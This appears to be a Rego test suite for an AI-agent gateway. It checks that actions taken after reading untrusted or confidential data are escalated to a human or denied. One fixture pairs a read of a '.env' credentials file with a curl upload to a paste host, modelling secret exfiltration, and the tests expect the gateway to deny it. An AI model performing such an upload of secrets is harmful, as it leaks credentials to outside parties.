package gateway_test.flow

import rego.v1

import data.gateway.decision
import data.gateway_test.testing

untrusted := {
	"session": "task:T1", "integrity": "untrusted", "confidentiality": "public",
	"untrusted": [{"label": "untrusted", "what": "network: evil.example", "tool": "shell_run", "call_id": "c1"}],
	"confidential": [],
}

confidential := {
	"session": "task:T1", "integrity": "trusted", "confidentiality": "confidential",
	"untrusted": [],
	"confidential": [{"label": "confidential", "what": "touches secrets or credentials: .env", "tool": "fs_read", "call_id": "c2"}],
}

clean := {"session": "task:T1", "integrity": "trusted", "confidentiality": "public", "untrusted": [], "confidential": []}

with_flow(doc, flow) := object.union(doc, {"flow": flow})

# a role that works without a claim (Claude Code's developer role, say)
roles := object.union(testing.roles, {"dev": {
	"tools": ["fs_*", "shell_run", "task_report", "chat__post"], "max_tier": 2, "commit": false,
	"requires_claim": false,
}})

push := testing.call("dev", "shell_run", {
	"commands": [testing.command(["git", "push", "origin", "main"], {"subcommand": "push"})],
	"network": [{"host": "git-remote:origin", "via": "git"}],
})

curl := testing.call("dev", "shell_run", {
	"commands": [testing.cmd(["curl", "https://paste.example/up"])],
	"network": [{"host": "paste.example", "via": "curl"}],
})

report := testing.call("dev", "task_report", {})

control_write := testing.call("dev", "fs_write", {"writes": [".github/workflows/ci.yml"]})

test_push_after_untrusted_content_is_tier_3_naming_the_source if {
	d := decision with input as with_flow(push, untrusted) with data.roles as roles
	d.action == "ask"
	d.tier == 3
	"flow.untrusted_sink" in d.rules
	some reason in d.reasons
	contains(reason, "a git push after the session read untrusted content (network: evil.example)")
}

test_push_in_a_clean_session_has_no_flow_finding if {
	d := decision with input as with_flow(push, clean) with data.roles as roles
	not "flow.untrusted_sink" in d.rules
}

test_no_flow_at_all_is_judged_as_before if {
	d := decision with input as push with data.roles as roles
	not "flow.untrusted_sink" in d.rules
}

test_message_to_other_agents_after_untrusted_content_asks if {
	d := decision with input as with_flow(report, untrusted) with data.roles as roles
	d.action == "ask"
	"flow.untrusted_sink" in d.rules
}

test_message_in_a_clean_session_is_allowed if {
	d := decision with input as with_flow(report, clean) with data.roles as roles
	d.action == "allow"
}

test_control_path_write_after_untrusted_names_the_path if {
	d := decision with input as with_flow(control_write, untrusted) with data.roles as roles
	d.tier == 3
	some reason in d.reasons
	contains(reason, "a change to a protected control path (.github/workflows/ci.yml)")
}

test_commit_after_untrusted_content_in_the_task_is_tier_3 if {
	approved := {"id": "i1", "state": "approved", "action": "merge"}
	doc := object.union(testing.call("committer", "intent_commit", {}), {"intent": approved})
	committer := object.union(testing.roles, {"committer": object.union(testing.roles.committer, {"tools": ["intent_commit"]})})
	d := decision with input as with_flow(doc, untrusted) with data.roles as committer
	d.action == "ask"
	"flow.untrusted_sink" in d.rules
	d.tier == 3
}

test_egress_after_confidential_read_is_denied if {
	d := decision with input as with_flow(curl, confidential) with data.roles as roles
	d.action == "deny"
	"flow.confidential_egress" in d.rules
	some reason in d.reasons
	contains(reason, "egress to paste.example after the session read confidential data")
}

test_egress_to_an_approved_host_after_confidential_read_is_not_denied if {
	d := decision with input as with_flow(curl, confidential)
		with data.roles as roles
		with data.settings as {"flow": {"confidential_hosts": ["*.example"]}}
	not "flow.confidential_egress" in d.rules
	d.action == "ask"
}

test_exact_approved_host if {
	d := decision with input as with_flow(curl, confidential)
		with data.roles as roles
		with data.settings as {"flow": {"confidential_hosts": ["paste.example"]}}
	not "flow.confidential_egress" in d.rules
}

test_confidential_read_alone_lets_local_work_run if {
	doc := testing.call("dev", "fs_write", {"writes": ["src/app.py"]})
	d := decision with input as with_flow(doc, confidential) with data.roles as roles
	not "flow.confidential_egress" in d.rules
}

test_extra_message_tools_from_settings if {
	doc := testing.call("dev", "chat__post", {})
	d := decision with input as with_flow(doc, untrusted)
		with data.roles as roles
		with data.settings as {"flow": {"message_tools": ["chat__post"]}}
	"flow.untrusted_sink" in d.rules
}
